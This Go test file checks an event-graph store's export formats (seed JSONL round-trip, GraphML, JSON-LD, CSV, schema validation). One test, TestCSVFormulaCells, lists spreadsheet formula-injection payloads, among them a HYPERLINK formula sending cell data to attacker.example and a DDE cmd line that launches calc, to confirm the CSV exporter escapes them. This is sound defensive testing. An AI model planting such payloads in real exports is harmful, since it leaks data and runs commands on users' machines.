package export_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/piprate/json-gold/ld"

	"eventgraph/seed"
	"eventgraph/seed/export"
	"eventgraph/store"
	"eventgraph/store/domain"
	"eventgraph/store/explore"
	"eventgraph/store/storetest"
)

// seeded is the bundled seed graph with what it lacks of the model: a publisher with a
// reliability grade, a copy of a source, a dated source, disputing and graded evidence.
func seeded(t *testing.T) *store.Graph {
	t.Helper()
	g := storetest.MustSeeded(t)
	ctx := context.Background()
	june := time.Date(2025, 6, 20, 0, 0, 0, 0, time.UTC)
	text := "Oman lies on the Arabian Peninsula. Oman lies on the Arabian Peninsula, officials repeated."
	rel := domain.Relation{Type: domain.RelLocatedIn, From: "oman", To: "arabian-peninsula"}
	rel.ID = domain.RelationID(rel.Type, rel.From, rel.To, rel.Role)
	_, err := g.Apply(ctx, &store.Batch{
		Nodes: []domain.Node{
			&domain.Actor{EntityBase: domain.EntityBase{ID: "wire", Name: "Wire Service"}, Kind: domain.ActorMedia, Reliability: domain.ReliabilityB},
			&domain.Source{ID: "wire-report", Title: "Profile", Publisher: "wire", PublishedAt: &june, Text: text, Language: "en"},
			&domain.Source{ID: "reprint", Title: "Profile (reprint)", Text: text, CopyOf: "wire-report", Language: "en"},
		},
		Relations: []domain.Relation{rel},
		Evidence: []domain.Evidence{
			{Subject: rel.ID, Source: "wire-report", Quote: "Oman lies on the Arabian Peninsula", Occurrence: 2, Confidence: 0.8, Method: "test", Credibility: 2},
			{Subject: rel.ID, Source: "reprint", Quote: "Oman lies on the Arabian Peninsula", Occurrence: 1, Confidence: 0.7, Method: "test",
				Stance: domain.EvidenceDisputes, AttributedTo: "wire", Note: "a test dispute"},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// dump is everything a graph holds, as JSON lines in visit order.
func dump(t *testing.T, g *store.Graph) string {
	t.Helper()
	var b strings.Builder
	add := func(v any) error {
		j, err := json.Marshal(v)
		b.Write(j)
		b.WriteByte('\n')
		return err
	}
	err := g.Visit(context.Background(), store.Visitor{
		Node:     func(n domain.Node) error { return add(n) },
		Position: func(p *domain.Position, evs []*domain.Evidence) error { return add([]any{p, evs}) },
		Relation: func(r *domain.Relation, evs []*domain.Evidence) error { return add([]any{r, evs}) },
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func write(t *testing.T, g *store.Graph, f export.Format, sub *explore.Subgraph) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := export.Write(context.Background(), g, &b, f, sub); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestSeedRoundTrip(t *testing.T) {
	g := seeded(t)
	file := filepath.Join(t.TempDir(), "export.jsonl")
	os.WriteFile(file, write(t, g, export.Seed, nil), 0o644)
	set, err := seed.LoadFiles(file)
	if err != nil {
		t.Fatal(err)
	}
	again := storetest.MustGraph(t)
	if _, err := seed.Import(context.Background(), again, set, seed.Options{}); err != nil {
		t.Fatal(err)
	}
	if got, want := dump(t, again), dump(t, g); got != want {
		t.Fatalf("export then import gives another graph:\n%s\nwant\n%s", got, want)
	}
	t.Run("subgraph stands on its own", func(t *testing.T) {
		sub, err := g.Neighbourhood(context.Background(), "oman", 1, domain.Walk{}, 1000)
		if err != nil {
			t.Fatal(err)
		}
		file := filepath.Join(t.TempDir(), "oman.jsonl")
		os.WriteFile(file, write(t, g, export.Seed, sub), 0o644)
		set, err := seed.LoadFiles(file)
		if err != nil {
			t.Fatal(err)
		}
		empty := storetest.MustGraph(t)
		stats, err := seed.Import(context.Background(), empty, set, seed.Options{})
		if err != nil || stats.Relations != len(sub.Relations) {
			t.Fatalf("importing the neighbourhood of oman: %+v, %v; want %d relations", stats, err, len(sub.Relations))
		}
	})
}

func TestGraphML(t *testing.T) {
	g := seeded(t)
	var doc struct {
		XMLName xml.Name `xml:"http://graphml.graphdrawing.org/xmlns graphml"`
		Keys    []struct {
			ID  string `xml:"id,attr"`
			For string `xml:"for,attr"`
		} `xml:"key"`
		Graph struct {
			EdgeDefault string `xml:"edgedefault,attr"`
			Nodes       []struct {
				ID   string `xml:"id,attr"`
				Data []struct {
					Key   string `xml:"key,attr"`
					Value string `xml:",chardata"`
				} `xml:"data"`
			} `xml:"node"`
			Edges []struct {
				ID     string `xml:"id,attr"`
				Source string `xml:"source,attr"`
				Target string `xml:"target,attr"`
				Data   []struct {
					Key   string `xml:"key,attr"`
					Value string `xml:",chardata"`
				} `xml:"data"`
			} `xml:"edge"`
		} `xml:"graph"`
	}
	if err := xml.Unmarshal(write(t, g, export.GraphML, nil), &doc); err != nil {
		t.Fatal(err)
	}
	// The rules of the GraphML schema a reader relies on: data refers to a key declared
	// for its element, edges join declared nodes, ids are unique.
	keys := map[string]string{}
	for _, k := range doc.Keys {
		keys[k.ID] = k.For
	}
	nodes := map[string]bool{}
	for _, n := range doc.Graph.Nodes {
		if nodes[n.ID] {
			t.Fatalf("node %s twice", n.ID)
		}
		nodes[n.ID] = true
		for _, d := range n.Data {
			if keys[d.Key] != "node" {
				t.Fatalf("node %s: data key %q is not declared for nodes", n.ID, d.Key)
			}
		}
	}
	var counted bool
	for _, e := range doc.Graph.Edges {
		if !nodes[e.Source] || !nodes[e.Target] {
			t.Fatalf("edge %s joins undeclared nodes %s and %s", e.ID, e.Source, e.Target)
		}
		for _, d := range e.Data {
			if keys[d.Key] != "edge" {
				t.Fatalf("edge %s: data key %q is not declared for edges", e.ID, d.Key)
			}
			counted = counted || d.Key == "evidence" && d.Value != "0"
		}
	}
	var entities, edges int
	g.Visit(context.Background(), store.Visitor{
		Node: func(n domain.Node) error {
			if n.NodeKind().IsEntity() {
				entities++
			}
			return nil
		},
		Position: func(*domain.Position, []*domain.Evidence) error { edges++; return nil },
		Relation: func(*domain.Relation, []*domain.Evidence) error { edges++; return nil },
	})
	if doc.Graph.EdgeDefault != "directed" || len(doc.Graph.Nodes) != entities || len(doc.Graph.Edges) != edges || !counted {
		t.Fatalf("graphml: %d nodes, %d edges, evidence counted %v; want %d entities, %d relations and positions",
			len(doc.Graph.Nodes), len(doc.Graph.Edges), counted, entities, edges)
	}
}

func TestJSONLD(t *testing.T) {
	g := seeded(t)
	var doc any
	if err := json.Unmarshal(write(t, g, export.JSONLD, nil), &doc); err != nil {
		t.Fatal(err)
	}
	opts := ld.NewJsonLdOptions("")
	expanded, err := ld.NewJsonLdProcessor().Expand(doc, opts)
	if err != nil {
		t.Fatalf("the document does not expand as JSON-LD: %v", err)
	}
	const prov = "http://www.w3.org/ns/prov#"
	found := map[string]bool{}
	for _, item := range expanded {
		for k := range item.(map[string]any) {
			if strings.HasPrefix(k, prov) {
				found[strings.TrimPrefix(k, prov)] = true
			}
		}
	}
	for _, term := range []string{"wasDerivedFrom", "wasQuotedFrom", "wasAttributedTo", "generatedAtTime", "value", "alternateOf"} {
		if !found[term] {
			t.Errorf("no item uses prov:%s", term)
		}
	}
}

// mustReadCSV reads every table of a CSV export.
func mustReadCSV(t *testing.T, out []byte) map[string][][]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string][][]string{}
	for _, f := range zr.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if rows[f.Name], err = csv.NewReader(r).ReadAll(); err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
	}
	return rows
}

func TestCSV(t *testing.T) {
	g := seeded(t)
	rows := mustReadCSV(t, write(t, g, export.CSV, nil))
	var nodes, relations, evidence int
	g.Visit(context.Background(), store.Visitor{
		Node: func(domain.Node) error { nodes++; return nil },
		Position: func(_ *domain.Position, evs []*domain.Evidence) error {
			evidence += len(evs)
			return nil
		},
		Relation: func(_ *domain.Relation, evs []*domain.Evidence) error {
			relations++
			evidence += len(evs)
			return nil
		},
	})
	for name, want := range map[string]int{"nodes.csv": nodes, "relations.csv": relations, "evidence.csv": evidence} {
		if got := len(rows[name]); got != want+1 || rows[name][0][0] != "id" {
			t.Errorf("%s: %d rows, want a header and %d", name, got, want)
		}
	}
}

// TestCSVFormulaCells: a cell a spreadsheet would run as a formula is written as text
// (a single quote in front), wherever it comes from; other cells, and the other
// formats, keep the stored strings.
func TestCSVFormulaCells(t *testing.T) {
	g := storetest.MustGraph(t)
	ctx := context.Background()
	hostile := []string{`=HYPERLINK("http://attacker.example/?"&A1,"open")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", "\t=1+1", "\r=1+1"}
	text := "Reported: " + strings.Join(hostile, " / ")
	rel := domain.Relation{Type: domain.RelAlliedWith, From: "a", To: "b"}
	rel.ID = domain.RelationID(rel.Type, rel.From, rel.To, rel.Role)
	_, err := g.Apply(ctx, &store.Batch{
		Nodes: []domain.Node{
			&domain.Actor{EntityBase: domain.EntityBase{ID: "a", Name: hostile[0], Aliases: hostile[1:2], Description: hostile[3]}, Kind: domain.ActorState},
			&domain.Actor{EntityBase: domain.EntityBase{ID: "b", Name: "Plain Name", Description: hostile[2]}, Kind: domain.ActorState},
			&domain.Source{ID: "s", Title: hostile[4], URL: "https://example.org/s", Text: text, Language: "en"},
		},
		Relations: []domain.Relation{rel},
		Evidence:  []domain.Evidence{{Subject: rel.ID, Source: "s", Quote: hostile[0], Confidence: 0.5, Method: hostile[5], Note: hostile[1]}},
	})
	if err != nil {
		t.Fatal(err)
	}
	rows := mustReadCSV(t, write(t, g, export.CSV, nil))
	escaped := map[string]bool{}
	for name, table := range rows {
		for _, row := range table {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
				if rest, ok := strings.CutPrefix(cell, "'"); ok {
					escaped[rest] = true
				}
			}
		}
	}
	for _, h := range append(hostile, "Plain Name") {
		if escaped[h] == (h == "Plain Name") {
			t.Errorf("%q: escaped %v", h, escaped[h])
		}
	}
	if seedExport := string(write(t, g, export.Seed, nil)); !strings.Contains(seedExport, `"name":"=HYPERLINK(`) {
		t.Errorf("the seed export changed a stored name:\n%s", seedExport)
	}
}

// TestGraphMLSchema validates the export with xmllint against the GraphML structure
// schema (testdata/graphml.xsd); .ci/run installs xmllint (Debian's libxml2-utils).
func TestGraphMLSchema(t *testing.T) {
	xmllint, err := exec.LookPath("xmllint")
	if err != nil {
		t.Fatal("xmllint is needed: apt-get install libxml2-utils (.ci/run does)")
	}
	validate := func(doc []byte) error {
		file := filepath.Join(t.TempDir(), "graph.graphml")
		os.WriteFile(file, doc, 0o644)
		out, err := exec.Command(xmllint, "--noout", "--schema", "testdata/graphml.xsd", file).CombinedOutput()
		if err != nil {
			return fmt.Errorf("%v: %s", err, out)
		}
		return nil
	}
	doc := write(t, seeded(t), export.GraphML, nil)
	if err := validate(doc); err != nil {
		t.Fatalf("the export does not validate: %v", err)
	}
	broken := bytes.Replace(doc, []byte(`target="muscat-talks"`), []byte(`target="nowhere"`), 1)
	if bytes.Equal(broken, doc) {
		t.Fatal("the test's edit found nothing to change")
	}
	if err := validate(broken); err == nil {
		t.Fatal("an edge to a node that does not exist validated: the schema checks nothing")
	}
}
